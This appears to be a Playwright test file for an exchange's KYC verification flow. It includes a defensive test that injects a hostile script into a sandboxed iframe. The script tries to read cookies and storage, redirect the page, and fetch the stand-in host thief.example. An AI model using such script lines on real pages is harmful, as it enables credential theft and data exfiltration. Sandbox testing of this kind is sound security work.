import { crc32, deflateSync } from 'node:zlib';
import { openAccountAndLogIn } from '../support/account.ts';
import { apiOf, confirmed } from '../support/api.ts';
import { violations } from '../support/axe.ts';
import { demoPassword } from '../support/log-in.ts';
import { codeInMail, codesTo } from '../support/outbox.ts';
import { lowTargets } from '../support/page-checks.ts';
import { newPerson } from '../support/person.ts';
import { takePicture } from '../support/pictures.ts';
import { inTurn } from '../support/staff-turn.ts';
import { dismissCookieNotice, expect, type Page, test } from '../support/test.ts';

const password = 'Quartz-meadow-ferry-63';

/** The picture of a document, of one colour. The server draws it anew, so its sums are right. */
function picture(width: number, height: number, colour: number): Buffer {
  const part = (name: string, content: Buffer) => {
    const named = Buffer.concat([Buffer.from(name), content]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(content.length, 0);
    frame.writeUInt32BE(crc32(named), 4);
    return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((width + 1) * height, colour);
  for (let row = 0; row < height; row += 1) rows[row * (width + 1)] = 0;
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    ...[part('IHDR', head), part('IDAT', deflateSync(rows)), part('IEND', Buffer.alloc(0))],
  ]);
}

const png = (name: string, colour: number) => ({
  ...{ name: `${name}.png`, mimeType: 'image/png', buffer: picture(640, 480, colour) },
});

async function declare(page: Page, level: number): Promise<void> {
  await page.getByRole('button', { name: `Verify to level ${level}` }).click();
  await page.getByLabel('First name').fill('Ada');
  await page.getByLabel('Last name').fill('Lovelace');
  await page.getByLabel('Street and number').fill('Rua Augusta 1');
  await page.getByLabel('City').fill('Lisboa');
  await page.getByLabel('Postal code').fill('1100-048');
  await page.getByRole('button', { name: 'Continue to documents' }).click();
}

async function show(page: Page, number: string, more: () => Promise<void> = async () => {}): Promise<void> {
  const frame = page.frameLocator('iframe[title="Upload your documents"]');
  await frame.getByLabel('Document number').fill(number);
  await frame.getByLabel('Expiry date').fill('2040-01-31');
  await frame.getByLabel('Page with your photo').setInputFiles(png('front', 90));
  await expect(frame.getByText('Uploaded')).toHaveCount(1);
  await more();
  await frame.getByRole('button', { name: 'Submit for verification' }).click();
}

/** Claims and approves what waits longest of somebody, as the compliance officer. */
async function approve(page: Page, id: string): Promise<void> {
  const email = 'compliance@emporion.test';
  const visitor = apiOf(page);
  const act = async () => {
    const { ticket, device } = await visitor.post('auth/login', { email, password: demoPassword });
    const seen = await codesTo(page, email);
    await visitor.post('auth/login/send-code', { ticket, method: 'email' });
    const code = await codeInMail(page, email, seen);
    const { access } = await visitor.post('check2falogin', { ticket, method: 'email', code, device });
    const api = apiOf(page, access);
    const headers = { authorization: `Bearer ${access}` };
    const claimed = await page.request.post(`/api/v1/admin/verifications/${id}/claim/`, { headers });
    const { checklist: checks, documents } = await claimed.json();
    for (const { id: document } of documents)
      await api.post(`admin/verifications/${id}/documents/${document}/view`, {});
    const confirmation = await confirmed(page, { email, api }, { action: 'back_office' });
    const reason = 'Looked at by a person';
    await api.post(`admin/verifications/${id}/approve`, { checks, reason, confirmation });
  };
  await inTurn(email, () => expect(act).toPass({ intervals: [15_000] }));
}

test('a verification is rejected, the next one approved, and the limit on the open page of withdrawals rises by itself', async ({
  page,
  context,
}) => {
  const token = await openAccountAndLogIn(page, newPerson('en'), password);
  const own = apiOf(page, token);
  await own.post('wallet/tap', { currency: 'BTC' });
  await page.goto('/account/kyc');
  await dismissCookieNotice(page);
  await expect(page.getByRole('heading', { name: 'Not verified' })).toBeVisible();
  expect(await violations(page)).toEqual([]);
  const beside = await context.newPage();
  const held = async () =>
    (await own.get('balance/')).balance as unknown as Record<string, { actual: string }>;
  await expect.poll(async () => Number((await held()).BTC?.actual ?? 0)).toBeGreaterThan(0);
  await beside.goto('/account/wallet/withdrawal/BTC');
  await beside.getByLabel('BTC address').fill('bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4');
  await beside.getByRole('button', { name: 'Continue' }).click();
  await expect(beside.getByText(/of 50,000 USDT/)).toBeVisible();

  await declare(page, 1);
  await show(page, 'REJECT1');
  const frame = page.frameLocator('iframe[title="Upload your documents"]');
  await expect(frame.getByText('Upload this file.')).toHaveCount(1);
  await expect(frame.getByLabel('A photo of your face')).toBeFocused();
  await frame.getByLabel('A photo of your face').setInputFiles({
    ...{ name: 'virus.png', mimeType: 'image/png', buffer: Buffer.from('MZ an executable by another name') },
  });
  await expect(frame.getByText('We can’t use this file')).toBeVisible();
  await frame.getByLabel('A photo of your face').setInputFiles(png('selfie', 40));
  await expect(frame.getByText('Uploaded')).toHaveCount(2);
  await takePicture(page, 'kyc-frame');
  await frame.getByRole('button', { name: 'Submit for verification' }).click();
  await expect(page.getByRole('heading', { name: 'Declined', exact: true })).toBeVisible();
  await expect(page.getByText('Your details don’t match the document')).toBeVisible();
  await expect(beside.getByText(/of 50,000 USDT/)).toBeVisible();
  expect(await violations(page)).toEqual([]);

  await declare(page, 2);
  await show(page, 'P1234567', async () => {
    // What is written while a file is on its way stays, and so does the focus.
    let release = () => {};
    const typed = new Promise<void>((resolve) => {
      release = resolve;
    });
    await page.route('**/session/files/selfie', async (route) => {
      await typed;
      await route.continue();
    });
    await frame.getByLabel('A photo of your face').setInputFiles(png('selfie', 41));
    await expect(frame.getByText('Uploading…')).toHaveCount(1);
    const today = new Date().toISOString().slice(0, 10);
    await frame.getByLabel('Date of issue').fill(today);
    release();
    await expect(frame.getByText('Uploaded')).toHaveCount(2);
    await expect(frame.getByLabel('Date of issue')).toHaveValue(today);
    await expect(frame.getByLabel('Date of issue')).toBeFocused();
    await frame.getByLabel('Bank statement or utility bill').setInputFiles(png('bill', 200));
    await expect(frame.getByText('Uploaded')).toHaveCount(3);
  });
  await expect(page.getByRole('heading', { name: 'In review' })).toBeVisible();
  const status = async () => (await own.get('kyc/')).application as unknown as { id: string; status: string };
  await expect.poll(async () => (await status()).status).toBe('review');
  await approve(page, (await status()).id);
  await expect(page.getByRole('heading', { name: 'Verified', exact: true })).toBeVisible();
  await expect(beside.getByText(/of 500,000 USDT/)).toBeVisible();
  await page.setViewportSize({ width: 390, height: 844 });
  await expect.poll(() => lowTargets(page)).toEqual([]);
  expect(await violations(page)).toEqual([]);
  await beside.close();
});

test('a hostile script in the place of the provider’s finds nothing of the page around it', async ({
  browser,
}) => {
  // A window of its own: what is refused to the script, browsers write to the console.
  const context = await browser.newContext({ locale: 'en-US' });
  const page = await context.newPage();
  await openAccountAndLogIn(page, newPerson('en'), password);
  // It tries everything that would help it, and writes down what it got.
  const hostile = `
    const got = {};
    const attempt = (name, act) => {
      try { const value = act(); got[name] = value === undefined ? 'nothing' : String(value).slice(0, 80); }
      catch (error) { got[name] = 'refused: ' + error.name; }
    };
    attempt('origin', () => self.origin);
    attempt('storage', () => localStorage.length);
    attempt('session', () => sessionStorage.length);
    attempt('cookies', () => document.cookie);
    attempt('database', () => indexedDB.open('x'));
    attempt('parent document', () => parent.document.title);
    attempt('parent storage', () => parent.localStorage.token);
    attempt('top address', () => top.location.href);
    attempt('leads away', () => { top.location = 'https://thief.example/'; });
    attempt('opens', () => open('https://thief.example/') === null ? 'null' : 'a window');
    const done = () => { document.body.dataset.got = JSON.stringify(got); };
    fetch('/api/v1/profile/', { credentials: 'include' }).then((answer) => { got.api = 'answered ' + answer.status; }, () => { got.api = 'refused'; })
      .then(() => fetch('https://thief.example/?x=1').then(() => { got.thief = 'answered'; }, () => { got.thief = 'refused'; })).then(done);
    const heard = [];
    addEventListener('message', ({ data }) => { heard.push(Object.keys(data).sort().join()); document.body.dataset.heard = JSON.stringify(heard); });
    for (const message of [{ kind: 'kyc_ready' }, { kind: 'navigate', href: '/login' }, { kind: 'kyc_height', height: 1e9 }, 'x', null]) parent.postMessage(message, '*');
  `;
  await context.route('**/verify.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: hostile }),
  );
  const thieves: string[] = [];
  context.on('request', (request) => {
    if (request.url().includes('thief.example')) thieves.push(request.url());
  });
  await page.goto('/account/kyc');
  await dismissCookieNotice(page);
  await declare(page, 1);
  const body = page.frameLocator('iframe[title="Upload your documents"]').locator('body');
  await expect(body).toHaveAttribute('data-got', /thief/);
  await expect(body).toHaveAttribute('data-heard', /token/);
  const got = JSON.parse((await body.getAttribute('data-got')) ?? '{}') as Record<string, string>;
  expect(got).toEqual({
    origin: 'null',
    storage: 'refused: SecurityError',
    session: 'refused: SecurityError',
    cookies: 'refused: SecurityError',
    database: expect.stringMatching(/^refused: |IDBOpenDBRequest/),
    'parent document': 'refused: SecurityError',
    'parent storage': 'refused: SecurityError',
    'top address': 'refused: SecurityError',
    'leads away': 'refused: SecurityError',
    opens: 'null',
    api: 'refused',
    thief: 'refused',
  });
  // All that it hears is the token of its own session, with the look of the page.
  expect(JSON.parse((await body.getAttribute('data-heard')) ?? '[]')).toEqual(['kind,language,theme,token']);
  expect(thieves).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/account/kyc');
  const height = await page.locator('iframe').evaluate((frame) => frame.getBoundingClientRect().height);
  expect(height).toBeLessThanOrEqual(4_000);
  // The same page, opened by itself, is not there.
  await page.goto('/verification/frame');
  expect(await page.content()).not.toContain('verify.js');
  await context.close();
});
